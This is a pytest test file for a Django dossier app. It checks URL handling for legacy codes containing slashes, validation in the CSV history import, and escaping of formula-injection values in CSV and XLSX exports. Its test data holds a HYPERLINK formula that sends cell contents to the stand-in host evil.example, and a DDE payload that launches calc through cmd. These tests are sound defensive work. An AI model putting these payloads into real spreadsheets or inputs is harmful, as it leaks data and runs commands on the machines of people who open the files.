"""Codes that break URLs and cells that become formulas (issue 18 items 4 and 5).

- A legacy code with ``/`` already in the database (imported before codes were checked) made
  every list that links it answer 500 (``NoReverseMatch``) for the whole unit, and its page
  was unreachable. Now every page that links it answers 200 and the link opens the dossier.
- The history import refuses such a code, a control character (NUL), an oversized number and
  an unreadable CSV record, each as ``line N, column C: reason``.
- An applicant or unit name starting with ``=``, ``+``, ``-``, ``@``, tab or CR is written as text
  with a leading apostrophe in the CSV and XLSX exports.
"""
from __future__ import annotations

import csv
import io
import re
from datetime import date

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from dossiers.models import Dossier, Unit
from dossiers.services.history_import import (
    MSG_CODE_ALPHABET, MSG_CODE_NUMBER, MSG_CONTROL_CHAR, HistoryImportError, dossier_history_parse,
)
from onecua.cells import safe_cell
from reporting import formats
from reporting.periods import Period
from reporting.selectors import report_figures, tracking_book_rows
from dossiers.roles import LEADER
from tests.dossiers.test_intake_pages import make_user, make_world, register

LEGACY = "123/2021/TNHS~x"


@pytest.fixture
def world(db):
    return make_world()


@pytest.fixture
def legacy(world):
    d = register(world)
    Dossier.objects.filter(pk=d.pk).update(code=LEGACY)  # as an older import stored it
    d.refresh_from_db()
    return d


@pytest.mark.django_db
def test_every_page_linking_a_code_with_a_slash_answers_and_the_link_opens_it(world, legacy):
    page = Client()
    page.force_login(world.clerk)
    detail = reverse("dossiers:detail", args=[LEGACY])
    assert "/" not in detail.removeprefix("/ho-so/").removesuffix("/")
    for url in (reverse("dossiers:list", args=["processing"]), reverse("dossiers:search") + "?q=123",
                reverse("dossiers:worklist"), reverse("home")):
        r = page.get(url, follow=True)
        assert r.status_code == 200, url
    leader = Client()
    leader.force_login(make_user("lanhdao.tt", "Lê Văn Lãnh", LEADER, unit=world.centre))
    monitored = leader.get(reverse("monitoring:list", args=["dang-xu-ly"]))
    assert monitored.status_code == 200 and detail in monitored.content.decode()
    listing = page.get(reverse("dossiers:list", args=["processing"])).content.decode()
    assert detail in listing
    opened = page.get(detail)
    assert opened.status_code == 200 and LEGACY in opened.content.decode()
    assert page.get(reverse("dossiers:receipt", args=[LEGACY])).status_code == 200
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=world.clerk).key}")
    assert api.get(reverse("api-dossier-detail", kwargs={"code": LEGACY})).json()["code"] == LEGACY


def _import(world, **cells) -> list[str]:
    row = {"procedure_code": world.birth.code, "receiving_unit_code": world.centre.code, "channel": "direct",
           "received_at": "2022-01-28T09:00", **cells}
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(row))
    writer.writeheader()
    writer.writerow(row)
    with pytest.raises(HistoryImportError) as exc:
        dossier_history_parse(stream=io.StringIO(out.getvalue()))
    return exc.value.errors


@pytest.mark.django_db
def test_import_refuses_unsafe_codes_control_characters_and_huge_numbers_with_line_and_column(world):
    assert _import(world, code="123/2021/TNHS") == [
        "line 2, column code: " + MSG_CODE_ALPHABET.format(code="123/2021/TNHS", char="/")]
    assert _import(world, applicant_name="Nguyễn\x00Văn") == [
        "line 2, column applicant_name: " + MSG_CONTROL_CHAR.format(char="U+0000")]
    huge = f"{world.centre.code}-220128-{'9' * 30}"
    assert _import(world, code=huge) == [
        "line 2, column code: " + MSG_CODE_NUMBER.format(number=int("9" * 30), max=999_999)]
    errors = _import(world, applicant_name="x" * 200_000)  # beyond the csv module's field limit
    assert len(errors) == 1 and re.match(r"line \d+, column -: ", errors[0])


@pytest.mark.parametrize(("value", "written"), [
    ('=HYPERLINK("http://evil.example/?"&A1,"Bấm")', '\'=HYPERLINK("http://evil.example/?"&A1,"Bấm")'),
    ("+84912345678", "'+84912345678"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("Nguyễn Văn A", "Nguyễn Văn A"),
    (-5, -5),
    (None, None),
])
def test_safe_cell(value, written):
    assert safe_cell(value) == written


@pytest.mark.django_db
def test_tracking_book_csv_and_xlsx_write_formula_starts_as_text(world):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'
    register(world, name=evil)
    rows = list(tracking_book_rows(start=date(2020, 1, 1), end=date(2030, 12, 31)))
    text = formats.tracking_book_to_csv(rows)
    names = [r["applicant_name"] for r in csv.DictReader(io.StringIO(text))]
    assert names == ["'" + evil]
    sheet = load_workbook(io.BytesIO(formats.tracking_book_to_xlsx(rows, title="Sổ"))).active
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert [(c.value, c.data_type) for c in cells] == [("'" + evil, "s")]


@pytest.mark.django_db
def test_report_csv_and_xlsx_write_a_formula_unit_name_as_text(world):
    Unit.objects.filter(pk=world.agency.pk).update(name="=cmd|' /C calc'!A0")
    register(world)
    report = report_figures(period=Period.quarter(2026, 4), source="direct")
    assert any(u["name"].startswith("=") for lv in report["levels"] for u in lv["units"])
    text = formats.report_to_csv(report)
    assert "\n=" not in text and ",=" not in text and "'=cmd" in text
    book = load_workbook(io.BytesIO(formats.report_to_xlsx(report)))
    values = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert not any(v.startswith("=") for v in values)
    assert any(v.startswith("'=cmd") for v in values)
